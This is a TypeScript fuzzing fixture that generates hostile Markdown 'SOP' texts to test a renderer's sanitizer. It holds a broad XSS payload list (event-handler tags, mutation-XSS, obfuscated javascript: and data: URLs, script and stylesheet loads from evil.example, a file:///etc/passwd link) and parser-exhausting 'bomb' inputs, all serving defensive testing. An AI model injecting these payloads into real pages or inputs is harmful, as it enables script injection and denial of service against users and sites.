import { createRandom, type Random } from './random.ts';

/** An SOP text that wants to run something, or to take for ever. */
export interface HostileSop {
  family: string;
  body: string;
}

const canary = 'canary()';

/** Elements with the events that fire on them by themselves, by a pointer or by the focus, as XSS collections list them. */
const eventElements: [string, string[]][] = [
  ['img src=x', ['onerror', 'onload', 'onmouseover']],
  ['svg', ['onload', 'onclick', 'onfocusin']],
  ['svg><animate attributeName=x dur=1s', ['onbegin', 'onend', 'onrepeat']],
  ['body', ['onload', 'onpageshow', 'onhashchange', 'onresize']],
  ['video src=x', ['onerror', 'onloadstart']],
  ['audio src=x', ['onerror']],
  ['video><source src=x', ['onerror']],
  ['details open', ['ontoggle']],
  ['input autofocus', ['onfocus', 'onblur']],
  ['select autofocus', ['onfocus']],
  ['textarea autofocus', ['onfocus']],
  ['button popovertarget=p', ['onclick', 'onbeforetoggle']],
  ['marquee', ['onstart', 'onfinish']],
  ['iframe src=x', ['onload']],
  ['object data=x', ['onerror', 'onload']],
  ['embed src=x', ['onload']],
  ['style', ['onload']],
  ['link rel=stylesheet href=x', ['onload', 'onerror']],
  ['script src=x', ['onerror', 'onload']],
  ['x tabindex=1 style=display:block;transition:outline 1s', ['ontransitionend', 'onfocus']],
  ['x style=animation-name:x', ['onanimationstart', 'onanimationend']],
  ['a href=x', ['onclick', 'onpointerover', 'onmouseenter']],
  ['form', ['onsubmit', 'onreset']],
  ['dialog open', ['onclose', 'oncancel']],
];

const wholeTags = [
  `<script>${canary}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<iframe srcdoc="<script>parent.${canary}</script>"></iframe>`,
  `<iframe src="javascript:parent.${canary}"></iframe>`,
  `<object data="javascript:${canary}"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgpIi8+">`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${canary}"><input type=submit></form>`,
  `<button formaction="javascript:${canary}" form=f>x</button>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${canary}&gt;">`,
  `<svg><style><img src=x onerror=${canary}></style></svg>`,
  `<svg><a xlink:href="javascript:${canary}"><text y=10>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${canary}></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<template><img src=x onerror=${canary}></template>`,
  `<textarea></textarea><img src=x onerror=${canary}>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(javascript:${canary})">x</div>`,
  `<div style="width:expression(${canary})">x</div>`,
  `<link rel=import href="https://evil.example/x">`,
  `<!--[if gte IE 4]><script>${canary}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${canary}>]]>`,
  `<?xml-stylesheet href="javascript:${canary}"?>`,
  `<img/src/onerror=${canary}>`,
  `<img src="x\`\`onerror=${canary}//">`,
  `</p></div><img src=x onerror=${canary}>`,
  `<img name=body><img name=cookie><form id=document><input id=location>`,
];

const schemes = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  `java\tscript:${canary}`,
  `java&#10;script:${canary}`,
  `&#106;avascript:${canary}`,
  `&#x6A&#x61vascript:${canary}`,
  `javascript&colon;${canary}`,
  `javascript&#58;${canary}`,
  ` \u0001javascript:${canary}`,
  `\u200Bjavascript:${canary}`,
  `javascript\\:${canary}`,
  `java%0ascript:${canary}`,
  `javascript://x%0a${canary}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${canary}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${canary}>`,
  `blob:https://x.example/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${canary}`,
  `picture:${'a'.repeat(64)}" onerror="${canary}`,
  `picture:javascript:${canary}`,
  `sop:x" onclick="${canary}`,
  `sop:javascript:${canary}`,
  `//evil.example/x`,
  `https://evil.example/"onmouseover="${canary}`,
  `https://evil.example/?<script>${canary}</script>`,
  `chrome-extension://x/dashboard.html`,
  `intent://x#Intent;scheme=http;end`,
];

/** Ways in which Markdown takes an address. */
const linkForms: ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `[x](${url} "a\\" onmouseover=${canary} b=\\"")`,
  (url) => `![x](${url})`,
  (url) => `![" onerror=${canary} x="](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][r]\n\n[r]: ${url} 'title" onclick=${canary}'`,
  (url) => `[![x](${url})](${url})`,
  (url) => `Look at ${url} now`,
  (url) => `[x](\n${url}\n)`,
  (url) => `- [ ] [x](${url})`,
  (url) => `| a |\n|---|\n| [x](${url}) |`,
];

/** Places in Markdown where a text may get out of its bounds. */
const wraps: ((html: string) => string)[] = [
  (html) => html,
  (html) => `# ${html}\n\n## ${html}`,
  (html) => `- ${html}\n  - ${html}`,
  (html) => `- [ ] ${html}\n- [x] ${html}`,
  (html) => `> > ${html}`,
  (html) => `| ${html} | b |\n|---|---|\n| ${html} | ${html} |`,
  (html) => `\`\`\`${html}\n${html}\n\`\`\``,
  (html) => `~~~js" onload="${canary}\n</code></pre>${html}\n~~~`,
  (html) => `    ${html}`,
  (html) => `\`${html}\``,
  (html) => `\`\`</code>${html}\`\``,
  (html) => `**${html}** _${html}_ ~~${html}~~`,
  (html) => `[${html}](https://x.example "${html.replaceAll('"', '\\"')}")`,
  (html) => `![${html}](https://x.example/a.png)`,
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&amp;lt;'),
  (html) => html.replaceAll('<', '\\<'),
  (html) => html.replaceAll('<', '\uFF1C'),
  (html) => html.replace('<', '<\u200B'),
  (html) => html.replace('<', '<\n'),
  (html) => `\u202E${html}\u202C`,
  (html) => `\uD800${html}`,
  (html) => `<!-- -->${html}<!--`,
  (html) => `${html}\u2028${html}`,
  (html) => `1. ${html}\n\n   ${html}\n\n2) ${html}`,
];

const many = (piece: string, most = 100_000) => piece.repeat(Math.floor(most / piece.length));

/** Texts that cost more than they are long, where a reader is not careful. */
const bombs: (() => string)[] = [
  () => many('['),
  () => many('![', 90_000),
  () => many('](', 90_000),
  () => many('[a](', 90_000),
  () => many('[a](<b', 90_000),
  () => many('*'),
  () => many('*a_', 90_000),
  () => many('a**b', 90_000),
  () => many('_'),
  () => many('~~a', 90_000),
  () => many('<'),
  () => many('<!--', 90_000),
  () => many('<a ', 90_000),
  () => many('&', 90_000),
  () => many('&#', 90_000),
  () => many('\\'),
  () => many('`a', 90_000),
  () => Array.from({ length: 440 }, (_, n) => '`'.repeat(n + 1)).join(' '),
  () => many('>'),
  () => many('> ', 90_000),
  () => Array.from({ length: 440 }, (_, n) => `${' '.repeat(n)}- a`).join('\n'),
  () => many('- ', 90_000),
  () => many('1. ', 90_000),
  () => many('# a\n', 90_000),
  () => many('- [ ] same\n', 90_000),
  () => `${many('|a', 2000)}|\n${many('|-', 2000)}|\n${many(`${many('|b', 2000)}|\n`, 90_000)}`,
  () => `|a|\n|-|\n${many('|b|\n', 90_000)}`,
  () => `${many('a|', 45_000)}\n${many('-|', 45_000)}`,
  () => Array.from({ length: 3000 }, (_, n) => `[r${n}]: https://x.example/${n}`).join('\n'),
  () => `[r]: x\n\n${many('[r]', 90_000)}`,
  () => many('http://', 90_000),
  () => many('a@', 90_000),
  () => many('https://x.example/', 90_000),
  () => many('a.b.', 90_000),
  () => many('\t', 90_000),
  () => `a${many('\u0300', 90_000)}`,
  () => many(`${'\n'.repeat(50)} `, 90_000),
  () => many('```\n', 90_000),
  () => `\`\`\`${many('x', 90_000)}`,
  () => many('"', 90_000),
  () => `[x](${many('(', 90_000)}`,
  () => `[x](x "${many('\\"', 90_000)}`,
  () => many('a\n===\n', 90_000),
  () => `x${many(' ', 99_000)}x`,
];

/** `count` hostile SOPs of a seed: every bomb once, then every vector in turn in a place that the seed picks. */
export function hostileSops(seed: number, count: number): HostileSop[] {
  const random = createRandom(seed);
  const all = [...bombs.map((bomb, n) => ({ family: `bomb ${n}`, body: bomb() })), ...vectors(random)];
  const more = () => ({
    family: 'mixed',
    body: Array.from({ length: 3 }, () => random.pick(wraps)(random.pick(wholeTags))).join('\n\n'),
  });
  while (all.length < count) all.push(more());
  return all.slice(0, count);
}

function vectors(random: Random): HostileSop[] {
  const events = eventElements.flatMap(([element, names]) =>
    names.map((name) => ({
      family: `event ${name}`,
      body: random.pick(wraps)(`<${element} ${name}=${canary}>x`),
    })),
  );
  const tags = wholeTags.flatMap((tag) =>
    Array.from({ length: 4 }, () => ({ family: 'tag', body: random.pick(wraps)(tag) })),
  );
  const links = schemes.flatMap((url) =>
    Array.from({ length: 7 }, () => ({ family: 'address', body: random.pick(linkForms)(url) })),
  );
  return [...events, ...tags, ...links];
}
